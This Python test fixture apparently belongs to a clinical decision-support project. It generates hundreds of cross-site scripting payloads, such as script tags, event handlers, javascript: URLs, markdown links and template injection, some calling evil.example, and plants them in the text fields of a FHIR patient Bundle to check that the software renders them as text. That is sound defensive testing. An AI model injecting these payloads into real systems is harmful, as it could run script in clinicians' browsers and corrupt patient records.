"""Texts that would run, load or deceive where somebody took them for markup.

May live here: the texts alone, and how to poison a chart with them. What must show them as text
are the cards and the page; ``tests/cds_hooks/attacks`` and ``tests/cds_hooks/page`` look.
"""

from __future__ import annotations

import copy
import itertools
from collections.abc import Iterator
from typing import Any

Json = dict[str, Any]

RUNS = "window.hacked=1"
TAGS = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT >",
    "<script src=https://evil.example/x.js>//{}</script>",
    "<img src=x onerror={}>",
    "<img/src='x'/onerror='{}'>",
    "<svg onload={}>",
    "<svg><animate onbegin={} attributeName=x>",
    "<svg><a xlink:href='javascript:{}'><text>x",
    "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src='javascript:{}'>",
    "<a href='javascript:{}'>x</a>",
    "<a href='data:text/html,<script>{}</script>'>x</a>",
    "<details open ontoggle={}>",
    "<math><mtext><style><img src=x onerror={}>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}>",
    "<audio src=x onerror={}>",
    "<object data='javascript:{}'>",
    "<embed src='javascript:{}'>",
    "<form action='javascript:{}'><button>x",
    "<button formaction='javascript:{}'>x</button>",
    "<style>@import 'javascript:{}'</style>",
    "<p style='background:url(javascript:{})'>",
    "<link rel=stylesheet href='javascript:{}'>",
    "<base href='javascript:{}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<marquee onstart={}>",
    "<![CDATA[<script>{}</script>]]>",
    "[x](javascript:{})",
    "![x](https://evil.example/?{})",
    "<javascript:{}>",
    "[x]: javascript:{}",
    "`<script>{}</script>`",
)
WAYS = (
    "{}",
    '">{}',
    "'>{}",
    "` {}",
    "</textarea>{}",
    "</title>{}",
    "</style>{}",
    "-->{}",
    "]]>{}",
    "&lt;{}",
    "&#60;{}",
    "\u202e{}",
    "\u2066{}\u2069",
    "\u200b{}",
    "\uff1c{}",
    "{{{{constructor.constructor('hacked=1')()}}}}{}",
)
PAYLOADS = tuple(way.format(tag.format(RUNS)) for tag, way in itertools.product(TAGS, WAYS))
STRUCTURE = frozenset(
    {
        *("resourceType", "id", "reference", "system", "code", "status", "intent", "url"),
        *("versionId", "lastUpdated", "birthDate", "gender", "use", "method", "timestamp"),
        *("effectiveDateTime", "effectiveInstant", "started", "start", "end", "issued"),
        *("authoredOn", "uid", "fullUrl", "address", "type", "mode"),
    }
)


def poisoned(bundle: Json, payloads: Iterator[str]) -> Json:
    """Return a Bundle in which every text that is no structure is a payload, and each is given."""

    def changed(value: Any, key: str) -> Any:
        if isinstance(value, dict):
            return {name: changed(each, name) for name, each in value.items()}
        if isinstance(value, list):
            return [changed(each, key) for each in value]
        return next(payloads) if isinstance(value, str) and key not in STRUCTURE else value

    made: Json = changed(copy.deepcopy(bundle), "")
    subject = _subject(bundle)
    given = [
        {
            "resource": {
                "resourceType": "MedicationAdministration",
                "id": f"{subject.partition('/')[2]}-poison-{number}",
                "status": "completed",
                "subject": {"reference": subject},
                "medicationCodeableConcept": {"text": payload},
                "dosage": {"text": payload},
                "effectiveDateTime": bundle["timestamp"],
            }
        }
        for number, payload in enumerate(PAYLOADS)
    ]
    return {**made, "entry": [*made["entry"], *given]}


def _subject(bundle: Json) -> str:
    resources = [each["resource"] for each in bundle["entry"]]
    (patient,) = [each for each in resources if each["resourceType"] == "Patient"]
    return f"Patient/{patient['id']}"
